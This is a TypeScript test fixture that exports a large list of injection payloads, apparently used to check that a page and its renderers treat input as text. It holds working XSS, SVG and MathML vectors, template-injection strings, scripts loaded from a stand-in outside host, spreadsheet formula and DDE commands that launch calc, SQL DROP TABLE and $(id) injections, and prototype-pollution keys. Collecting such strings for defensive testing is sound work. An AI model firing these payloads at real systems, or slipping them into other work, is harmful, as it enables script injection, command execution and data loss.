/** Calls what the watched page listens for. */
const CALL = 'marked(1)'

const MARKUP = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script src="https://elsewhere.invalid/x.js"></script>`, `<script type="module">${CALL}</script>`, `</script><script>${CALL}</script>`, `<scr<script>ipt>${CALL}</script>`,
  `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, '<noscript><p title="</noscript><img src=x onerror=marked(1)>">',
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `<img src="https://elsewhere.invalid/p.png">`, `<img srcset="https://elsewhere.invalid/p.png 2x">`, `<image href=x onerror=${CALL}>`, `<body onload=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`,
  `<video src=x onerror=${CALL}>`, `<audio src=x onerror=${CALL}>`, `<source onerror=${CALL}>`, `<iframe src="javascript:${CALL}">`, `<iframe srcdoc="<script>parent.${CALL}</script>">`, `<object data="javascript:${CALL}">`, `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>送信</button></form>`,
  `<button formaction="javascript:${CALL}">送信</button>`, `<marquee onstart=${CALL}>`, `<div onmouseover=${CALL}>ここ</div>`, `<p onclick=${CALL}>ここ</p>`, `<a onfocus=${CALL} tabindex=1 autofocus>ここ</a>`, `<select onfocus=${CALL} autofocus>`, `<base href="https://elsewhere.invalid/">`, '<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/">',
  '<link rel="stylesheet" href="https://elsewhere.invalid/x.css">', '<link rel=import href=https://elsewhere.invalid/>', `<template><script>${CALL}</script></template>`, `<x onanimationstart=${CALL} style="animation:spin 1s">`, '<dialog open>割り込み</dialog>', '<plaintext>', '<!--', '<![CDATA[', '<?xml version="1.0"?>', '<h1>別の見出し</h1>', '<b>太字</b>', '</main></body></html>',
]

const DRAWN = [
  `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><a href="javascript:${CALL}"><text y="20">ここ</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, '<svg><use href="https://elsewhere.invalid/x.svg#a"/></svg>', `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${CALL}"/></svg>`, `</text><script>${CALL}</script>`, '" fill="url(https://elsewhere.invalid/#a)', `" onload="${CALL}`, '</svg>', `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`, `<math href="javascript:${CALL}">ここ</math>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  '{a|太字}', '{b}', '{value}', '{@}', '{c|{a|入れ子}}', '{value|', '|}', '{a|b}{c|d}', '${value}', '<span style="color:red">赤</span>', '{marker}', '{a}: {b}<br/>{c}', '\n\n\n図の行', 'image://https://elsewhere.invalid/x.png', 'path://M0 0L1 1',
]

const TEMPLATES = [
  `{{${CALL}}}`, `{{constructor.constructor("${CALL}")()}}`, `{{$el.ownerDocument.defaultView.${CALL}}}`, `{{_c.constructor("${CALL}")()}}`, '{{7*7}}', `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `[[${CALL}]]`, `<div v-html="'<img src=x onerror=${CALL}>'">`, `<div @click="${CALL}" v-on:load="${CALL}">`, `<p v-if="${CALL}">`, '{% raw %}', `{{{${CALL}}}}`, `*{${CALL}}`,
]

const LINKS = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript://%0a${CALL}`, `javascript&colon;${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5tYXJrZWQoMSk8L3NjcmlwdD4=`, `vbscript:${CALL}`, `<a href="javascript:${CALL}">ここ</a>`, `[ここ](javascript:${CALL})`,
  'https://elsewhere.invalid/', '//elsewhere.invalid/x', '\\\\elsewhere.invalid\\x', 'file:///etc/passwd', 'blob:https://elsewhere.invalid/1', '#/policies/654', '#/../..', '?calc=0&unit=k', '&sec=65', '%00', '%2e%2e%2f', '%', '%E0%A4%A', '%u0041', '../../..', '#', '?', '/', '\\', 'a/b?c#d&e=f',
]

const STYLES = ['</style><style>*{display:none}</style>', '<style>@import "https://elsewhere.invalid/x.css";</style>', '*{background:url(https://elsewhere.invalid/p)}', 'color:red;position:fixed;inset:0', 'expression(marked(1))', '}body{display:none}', 'url(javascript:marked(1))', '\\3c script\\3e', '"><p style="position:fixed;inset:0">']

const SIGNS = [
  '\u202e逆向き', '\u202a\u202b\u202d', '\u2066閉じない', '\u2067\u2068\u2069', '\u200e\u200f', '\u061c', '見\u200bえない', '\u200d\u200c', '\ufeff先頭', '\u2028行\u2029段', '\u0000空', '\u0007\u0008\u000b\u000c', '\u001b[31m赤', '\u007f\u0085\u00a0', '\u00ad\u00ad', '\ufffd\uffff', '半分\ud800', '\udc00半分', '\u{10ffff}', '\u{e0001}\u{e007f}', 'か\u3099', `e${'\u0301'.repeat(60)}`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u3000\u3000', ' ', '', 'ﷺ', 'İıſK', '１２３', '𠮷野家', 'あ'.repeat(900), 'W'.repeat(900), '改\n行\r\nと\tタブ', '（）「」', '・・・',
]

const FORMULAS = [
  '=1+1', '=cmd|\'/C calc\'!A0', '=HYPERLINK("https://elsewhere.invalid/","ここ")', '=WEBSERVICE("https://elsewhere.invalid/")', '+1+1', '-1+1', '-', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '＋1', '－1', '＠SUM', '﹦1', '﹢1', '−1', '\u200b=1', '\ufeff=1', "'=1", '"=1"', ';=1', '",=1', '"\r\n=1,', 'DDE("cmd";"/C calc";"x")', '%0A=1', '\u00a0=1', '\u3000＝1',
]

const KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'length', 'name', 'key', 'undefined', 'null', 'NaN', 'true', '[object Object]', '0', '-0', '1e999', '_', '__v_isRef', '__v_skip', 'then()', 'self', 'all', 'none']

const ENTITIES = [`&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;script&#x3e;`, '&amp;lt;', '&quot; onload=&quot;marked(1)', '&nbsp;', '&#0;', '&#xd800;', '&unknown;', '&', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '＜script＞marked(1)＜/script＞', '‹script›', '+ADw-script+AD4-', '\'; DROP TABLE rounds;--', '$(id)', '`id`', '{"$ne":null}', '_x003C_script_x003E_', '"', "'", '`', '\\"', '//', '/*', '*/']

/** Words that some reader, drawer or writer of texts might take for more than text; `marked` is a function that the watched page listens to. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...DRAWN, ...TEMPLATES, ...LINKS, ...STYLES, ...SIGNS, ...FORMULAS, ...KEYS, ...ENTITIES]
